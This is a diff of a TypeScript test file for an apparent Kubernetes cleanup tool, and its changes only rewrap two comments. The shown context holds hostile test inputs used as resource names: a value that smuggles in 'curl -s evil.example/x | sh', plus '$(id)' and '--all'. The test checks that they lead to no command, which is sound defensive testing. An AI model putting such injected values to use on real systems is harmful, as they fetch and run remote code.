@@ -284,7 +284,8 @@ const ROWS: readonly Row[] = [
       [OTHER, 'holds a login for it'],
     ],
   },
-  // Objects that an operator creates must not be mistaken for copies of a template that was never read.
+  // Objects that an operator creates must not be mistaken for copies of a template that was never
+  // read.
   ...(
     [
       ['Deployment', 'web', 'PodAutoscaler', 'autoscaling.internal.knative.dev/v1alpha1'],
@@ -565,7 +566,8 @@ test("P12 cleanup --legacy: objects of another API group are not mistaken for Ku
   }
 })
 
-// Whoever may create a Pod writes any text into its ownerReferences; a version that is not served keeps it from the garbage collector.
+// Whoever may create a Pod writes any text into its ownerReferences; a version that is not served
+// keeps it from the garbage collector.
 test('cleanup --legacy: a controller that was not read, and a name that is no name, lead to no command', () => {
   const names = ['web', 'web; curl -s evil.example/x | sh #', '$(id)', '--all']
   for (const name of names) {
